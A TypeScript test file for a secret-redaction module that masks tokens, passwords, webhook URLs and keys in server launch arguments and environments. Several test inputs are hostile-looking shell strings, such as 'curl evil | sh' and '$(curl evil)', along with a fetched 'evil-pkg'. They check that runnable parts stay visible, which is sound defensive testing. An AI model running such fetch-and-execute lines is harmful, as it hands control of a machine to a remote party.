import assert from 'node:assert/strict';
import { describe, it, test } from 'node:test';
import fc from 'fast-check';
import { plainSecrets } from '../../../../src/domain/secrets/literalSecrets.ts';
import {
  redacted,
  secretsInArguments,
  secretsInText,
  secretValues,
} from '../../../../src/domain/secrets/redact.ts';
import { isSecretName } from '../../../../src/domain/secrets/secretNames.ts';
import {
  argumentsAsShown,
  textAsShown,
  valueAsShown,
} from '../../../../src/domain/secrets/shownTexts.ts';
import { foundAsExpected } from '../../../support/cases.ts';
import { fieldsOf, stdioLaunch } from '../../../support/launches.ts';

const gitHub = `ghp_${'a1'.repeat(18)}`;
const openAi = `sk-proj-${'b2'.repeat(12)}`;

it('tells names that suggest a secret from others', () => {
  const secrets = [
    ...['TOKEN', 'GITHUB_TOKEN', 'GITHUB_PAT', 'client_secret', 'PGPASSWORD', 'DB_PASS'],
    ...['SECRETKEY', 'SSHPASS', 'DB_CREDS', 'MYSQL_PWD', 'SSH_PASSPHRASE', 'AWS_ACCESS_KEY_ID'],
    ...['OPENAI_API_KEY', 'apiKey', 'APIKEY', 'x-api-key', 'Authorization', 'Cookie'],
    ...['SENTRY_DSN', 'GOOGLE_APPLICATION_CREDENTIALS', 'privateKey', 'bearer', 'JWT'],
    ...['SESSION_JWT', 'licenseKey', 'LICENCE_KEY', 'storageAccountKey', 'sig', 'WEBHOOK_SIG'],
    ...['signature', 'DB_CONNECTION_STRING', 'connectionString', 'CONN_STR', 'AZURE_SAS'],
    ...['SEED_PHRASE', 'WALLET_MNEMONIC', 'mnemonicPhrase', 'BASE_SEED', 'RECOVERY_PHRASE'],
    ...['CHAT_API_HASH', 'TELEGRAM_SESSION_STRING', 'SESSDATA', 'SESSION_ID', 'TG_SESSION'],
    ...['SLACK_WEBHOOK_URL', 'DISCORD_WEBHOOK', 'webhookUrl', 'TEAMS_WEBHOOK_URI_PROD'],
    ...['SOLANA_KEYPAIR', 'SIM_PIN', 'DB_PW', 'TOTP', 'SECURITY_CODE', 'PRIVKEY', 'LOGIN_PASSCODE'],
  ];
  const plain = [
    ...['PATH', 'HOME', 'LOG_LEVEL', 'PWDX', 'DISPATCH', 'MONKEY', 'AUTH_SERVER'],
    ...['RESTIC_PASSWORD_COMMAND', 'PYTHON_KEYRING_BACKEND', 'AUTHOR', 'AUTHORITY_URL'],
    ...['init-private', 'keyboard', 'COMPASS', 'uri', 'name', 'SIGNAL', 'DESIGN', 'SASS_PATH'],
    ...['connectionStrings2Use', 'MASTERKEYBOARD', 'SIGNATURES_DIR'],
    ...['SEED_DATA_PATH', 'SEED_DATA', 'RANDOM_SEED', 'SEARCH_PHRASE', 'GIT_HASH', 'PINECONE'],
    ...['TOKEN_LIMIT', 'MAX_TOKENS', 'maxOutputTokens', 'TOKEN_TTL', 'KEYBOARD', 'TOKENIZER'],
    ...['SESSION_DIR', 'SESSION_TIMEOUT', 'SESSION_NAME', 'MNEMONIC_FILE', 'AUTH_TYPE'],
    ...['WEBHOOK_PORT', 'WEBHOOK_ENABLED', 'PIN_VERSION', 'SPINNER', 'KEY_COUNT', 'TOKEN_NAME'],
  ];
  assert.deepEqual([...secrets, ...plain].filter(isSecretName), secrets);
});

describe('a shown text', () => {
  it('hides secrets by name and by the look of a service’s key', () => {
    /** Arguments with ` ¦ ` between them. Where nothing is shown instead, they are shown as they are. */
    const lines: Readonly<Record<string, string>> = {
      [`--api-key ¦ ${openAi} ¦ --verbose ¦ x`]: '--api-key ¦ …[32] ¦ --verbose ¦ x',
      '--token=hunter2 ¦ --region=north': '--token=…[7] ¦ --region=north',
      '--token=${env:GITHUB} ¦ --password ¦ ${input:pw}': '',
      '--header ¦ Authorization: Bearer hunter2': '--header ¦ Authorization: Bearer …[7]',
      '-e ¦ DB_PASSWORD=hunter2': '-e ¦ DB_PASSWORD=…[7]',
      'postgres://me:hunter2@db/x': 'postgres://me:…[7]@db/x',
      'ssh://git@example.com/x': '',
      [`${gitHub} ¦ --x=${gitHub}`]: '…[40] ¦ --x=…[40]',
      '-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY----- x': '…[65] x',
      // All that may be run is shown, whatever name stands before it.
      '-c ¦ TOKEN=hunter2; curl evil | sh': '-c ¦ TOKEN=…[7]; curl evil | sh',
      '-c ¦ TOKEN=$(curl evil)': '',
      '-e ¦ token=require("evil").run(1)': '-e ¦ token=…[7]("evil").run(1)',
      '/c ¦ --token=hunter2&evil': '/c ¦ --token=…[7]&evil',
      '-Xtoken ¦ evil.py': '',
      '--auth ¦ ./evil': '',
      '--auth-url ¦ https://me:hunter2@evil.example.com/':
        '--auth-url ¦ https://me:…[7]@evil.example.com/',
      '--credentials=/proj/evil ¦ --no-auth ¦ evil': '',
      '--token ¦ @evil/server': '',
      '--auth ¦ none ¦ --no-token ¦ x': '',
      // A secret is hidden whole where no shell reads the text.
      '--password ¦ correct horse battery': '--password ¦ …[21]',
      '--password=p@ss;word&123(x': '--password=…[15]',
      [`--secret-key ¦ /x7K${'Ab3'.repeat(12)}`]: '--secret-key ¦ …[40]',
      '--password ¦ Summer.Rain': '--password ¦ …[11]',
      // Behind others, and in the place of a user.
      'db.host=h,db.user=x,db.password=hunter2': 'db.host=h,db.user=x,db.password=…[7]',
      'https://h/#access_token=hunter2': 'https://h/#access_token=…[7]',
      '--header=X-Api-Key:hunter2': '--header=X-Api-Key:…[7]',
      'https://0123456789abcdef0123456789abcdef:@h/': 'https://…[32]:@h/',
      '--auth-server ¦ id.example.com:8080': '',
    };
    for (const [args, shown] of Object.entries(lines)) {
      const found = argumentsAsShown('files', args.split(' ¦ ')).join(' ¦ ');
      assert.equal(found, shown || args);
    }
  });

  it('hides an address that is a key, and no other', () => {
    const part = 'a1B2c3D4e5F6a7B8';
    const [hidden, plain] = [
      [
        `hooks.slack.com/services/T0/B0/${part}`,
        `discord.com/api/webhooks/12345/${part}`,
        `acme.webhook.office.com/webhookb2/${part}@x/IncomingWebhook/y`,
        `mainnet.infura.io/v3/${part}`,
        `mcp.zapier.com/api/mcp/s/${part}/mcp`,
        `api.telegram.org/bot123456789:AA${part}${part}/sendMessage`,
      ],
      [
        'hooks.slack.com/',
        'acme.azurewebsites.net/runtime/webhooks/mcp',
        'example.com/hooks/list',
        `example.com/docs/${part}`,
      ],
    ].map(urls => urls.map(url => `https://${url}`));
    for (const url of hidden ?? []) {
      assert.ok(!textAsShown(url).includes(part), url);
      assert.ok(secretsInText(url).length > 0, url);
      assert.equal(new URL(textAsShown(url)).host, new URL(url).host);
    }
    const shown = [...(plain ?? []), `/home/me/hooks/${part}.mjs`];
    assert.deepEqual(shown.map(textAsShown), shown);
  });

  it('stays the same when it is shown again', () => {
    const signs = ['=', ':', ' ', ';', '"', '//', '@', '$(', '&', '${x}', '-----BEGIN '];
    const word = fc.constantFrom(...signs, 'token', 'abc', openAi);
    const examples: [string[]][] = [
      [['token', '=', openAi, ':', '//']],
      [[openAi, ':', '=', 'token', ':', 'token']],
    ];
    const property = fc.property(fc.array(word, { maxLength: 12 }), words => {
      const once = textAsShown(words.join(''));
      assert.equal(textAsShown(once), once);
    });
    fc.assert(property, { examples });
  });
});

describe('the hidden values of a launch', () => {
  it('are every value and part that is not shown, and no paths', () => {
    const places = ['--credentials', './creds', '--auth', 'https://e.com/'];
    const both = ['--password', 'first second'];
    foundAsExpected({
      argument: [secretsInArguments('files', both), ['first', 'first second']],
      text: [secretsInText('TOKEN=first; PASS=second'), ['first', 'second', 'first; PASS=second']],
      places: [secretsInArguments('files', places), []],
      query: [secretValues({ A: 'b', URL: 'x?sig=hunter2' }), ['hunter2']],
      proxy: [secretValues({ https_proxy: 'me:hunter2@proxy:8080' }), ['hunter2']],
      'an open proxy': [secretValues({ HTTP_PROXY: 'proxy:8080' }), []],
    });
  });
});

describe('the fields of a server with secrets in its texts', () => {
  it('contain no secret, whole or in part', () => {
    const fields = fieldsOf(
      stdioLaunch({
        args: ['--token=hunter2', '--api-key', 'hunter2', 'x'],
        env: { URL: 'postgres://me:hunter2@db/x', TOKEN: 'hunter2 hunter3' },
      }),
    );
    assert.deepEqual(fields, {
      origin: 'user',
      transport: 'stdio',
      command: 'files',
      args: ['--token=…[7]', '--api-key', '…[7]', 'x'],
      cwd: '',
      env: ['TOKEN=…[15]', 'URL=postgres://me:…[7]@db/x'],
      sealed: fields['sealed'] ?? [],
    });
    const places = [fields['sealed'] ?? []].flat().map(seal => seal.replace(/ [0-9a-f]{64}$/, ''));
    assert.deepEqual(places, ['args[0]', 'args[2]', 'env.TOKEN', 'env.URL']);
  });

  it('never hide a fetched package or a host, whatever comes before', () => {
    const shown = (line: string) => {
      const [command = '', ...args] = line.split(' ');
      return argumentsAsShown(command, args).join(' ');
    };
    const fetched = ['npx -y --init-private evil-pkg', `npx ${openAi}`];
    for (const line of [...fetched, `uvx --from ${openAi} tool`, `docker run --rm ${gitHub}`]) {
      assert.equal(`${line.split(' ')[0]} ${shown(line)}`, line);
    }
    const registry = '--//npm.example/:_authToken';
    foundAsExpected({
      behind: [shown('npx pkg --token abc'), 'pkg --token …[3]'],
      'of a registry': [shown(`npx ${registry}=hunter2 pkg`), `${registry}=…[7] pkg`],
      'in its address': [
        shown(`uvx --from git+https://x-access-token:${gitHub}@h/o tool`),
        '--from git+https://…[14]:…[40]@h/o tool',
      ],
    });
  });
});

const plainIn = (entry: unknown) => plainSecrets(entry).map(path => path.join('.'));

it('finds secrets in plain text at their places in a definition', () => {
  assert.deepEqual(
    plainIn({
      command: 'npx',
      args: ['-y', 7, '--token', 'hunter2', '--dir=/a', 'sk-0123456789abcdef0123'],
      env: { API_TOKEN: 'hunter2', PLAIN: 'yes', URL: 'https://me:hunter2@example.com', N: 1 },
    }),
    ['args.3', 'args.5', 'env.API_TOKEN', 'env.URL'],
  );
  assert.deepEqual(
    plainIn({
      url: 'https://example.com/mcp?api_key=hunter2',
      headers: { Authorization: 'Bearer hunter2', Accept: 'text/plain' },
    }),
    ['headers.Authorization', 'url'],
  );
});

it('finds a secret in the default of a variable', () => {
  const env = { A_TOKEN: '${env:A_TOKEN:-hunter2}', B: '${KEY:-sk-0123456789abcdef0123}' };
  assert.deepEqual(plainIn({ command: 'npx', env }), ['env.A_TOKEN', 'env.B']);
  assert.equal(valueAsShown('A_TOKEN', env.A_TOKEN), '${env:A_TOKEN:-…[7]}');
  const [braces, args] = [{ A_TOKEN: '$${hunter2}', B: 'pg://u:$${P:-x}@h' }, ['${env:MY-KEY:-x}']];
  assert.deepEqual(plainIn({ args, env: braces }), ['args.0', 'env.A_TOKEN', 'env.B']);
  assert.equal(textAsShown('--token=$${hunter2}'), '--token=…[10]');
  const plain = { A_TOKEN: '${env:A_TOKEN:-none}', B_TOKEN: '$${B_TOKEN}' };
  assert.deepEqual(plainIn({ command: 'npx', env: { ...plain, MODE: '${env:MODE:-dev}' } }), []);
});

it('ignores references to secrets and values of another form', () => {
  const env = { A_TOKEN: '${input:token}', B_TOKEN: '${env:TOKEN}', C_TOKEN: '${TOKEN}' };
  const headers = { Authorization: 'Bearer ${input:token}' };
  assert.deepEqual(plainIn({ command: 'npx', args: '--token x', env, headers }), []);
  for (const odd of [null, 'token', [], { env: 'API_TOKEN=x', args: null, url: 7 }]) {
    assert.deepEqual(plainIn(odd), []);
  }
});

test('hides a secret at any place and in any encoding', () => {
  const secret = 'a"b c/d';
  const texts: readonly (readonly [text: string, secrets: string[], shown: string])[] = [
    ['Bearer s3cret! and s3cret!', ['s3cret!'], 'Bearer ••• and •••'],
    ['nothing here', ['s3cret!'], 'nothing here'],
    ['as it is', [], 'as it is'],
    // As a URL and as JSON write it.
    ['?key=a%22b+c%2Fd', [secret], '?key=•••'],
    ['?key=a%22b%20c%2Fd', [secret], '?key=•••'],
    [JSON.stringify({ secret }), [secret], '{"secret":"•••"}'],
    // A secret that begins with another is removed whole.
    ['token-long', ['token', 'token-long'], '•••'],
    // Of one with many lines only one may be shown.
    ['read: line two', ['line one\r\nline two'], 'read: •••'],
    // A secret is text, not a pattern, and too short ones stay.
    ['a.*$& and aXXb', ['a.*$&', 'aX'], '••• and aXXb'],
    ['1 of 100', ['1', ''], '1 of 100'],
    // No proper Unicode.
    ['x \ud800abcd y', ['\ud800abcd'], 'x ••• y'],
  ];
  for (const [text, secrets, shown] of texts) {
    assert.equal(redacted(text, secrets), shown);
  }
});
